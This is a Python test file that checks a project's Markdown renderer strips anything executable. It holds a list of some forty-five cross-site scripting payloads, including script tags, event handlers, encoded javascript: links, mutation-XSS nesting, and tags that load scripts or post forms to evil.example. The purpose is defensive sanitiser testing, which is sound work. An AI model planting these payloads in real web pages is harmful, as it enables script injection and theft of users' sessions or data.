"""The one Markdown pipeline: hostile input must come out with nothing executable in it."""
import html
from html.parser import HTMLParser

import pytest

from taro.markdown import render_document, render_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<img src=x oNeRrOr=alert(1)>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object>",
    "<embed src=x>",
    '<form action="https://evil.example"><input name=p></form>',
    "<style>body{display:none}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](javascript:alert(1))",
    '![img](x" onerror="alert(1))',
    "[ref][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    "<<script>script>alert(1)<</script>/script>",
    "<img src=`x`onerror=alert(1)>",
    '<a href="#" onclick="alert(1)">x</a>',
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "[x](<javascript:alert(1)>)",
    "```\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "<details open ontoggle=alert(1)>",
    "<!--<script>alert(1)</script>-->",
    "<a href=\"jav\tascript:alert(1)\">x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]

ALLOWED_TAGS = {"a", "abbr", "b", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr",
                "i", "img", "kbd", "li", "ol", "p", "pre", "s", "strong", "sub", "sup", "table", "tbody", "td",
                "tfoot", "th", "thead", "tr", "ul"}
SAFE_SCHEMES = ("http:", "https:", "mailto:")


class InertChecker(HTMLParser):
    """Parses the output as a browser would and records anything that could run."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "srcdoc", "formaction"}:
                self.problems.append(f"attribute {name}")
            if name in {"href", "src"} and value:
                url = "".join(ch for ch in html.unescape(value) if ch.isprintable() and not ch.isspace()).lower()
                if ":" in url.split("/")[0] and not url.startswith(SAFE_SCHEMES):
                    self.problems.append(f"{name}={value!r}")


def assert_inert(output: str) -> None:
    checker = InertChecker()
    checker.feed(output)
    checker.close()
    assert not checker.problems, f"{checker.problems} in {output!r}"


def test_corpus_has_at_least_thirty_payloads():
    assert len(HOSTILE) >= 30


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_input_is_inert(payload):
    assert_inert(render_markdown(payload))
    assert_inert(render_document(payload).html)


def test_user_links_get_nofollow_ugc_noopener():
    html = render_markdown("[site](https://example.com)")
    assert 'href="https://example.com"' in html
    assert 'rel="nofollow ugc noopener"' in html


def test_guides_render_tables_and_heading_ids():
    document = render_document("## OLR ratings\n\n| Rating | Share |\n|---|---|\n| TT | 1–2% |\n")
    assert '<h2 id="olr-ratings">' in document.html
    assert "<table>" in document.html and "<td>TT</td>" in document.html
    assert document.toc == [{"id": "olr-ratings", "name": "OLR ratings", "level": 2}]


def test_user_content_keeps_useful_markdown():
    html = render_markdown("**bold** and `code`\n\n- one\n- two\n\n```\nx = 1\n```")
    assert "<strong>bold</strong>" in html and "<code>code</code>" in html
    assert "<li>one</li>" in html and "<pre><code>x = 1" in html


def test_entities_stay_text():
    html = render_markdown("&lt;script&gt;alert(1)&lt;/script&gt;")
    assert "&lt;script&gt;" in html and "<script" not in html
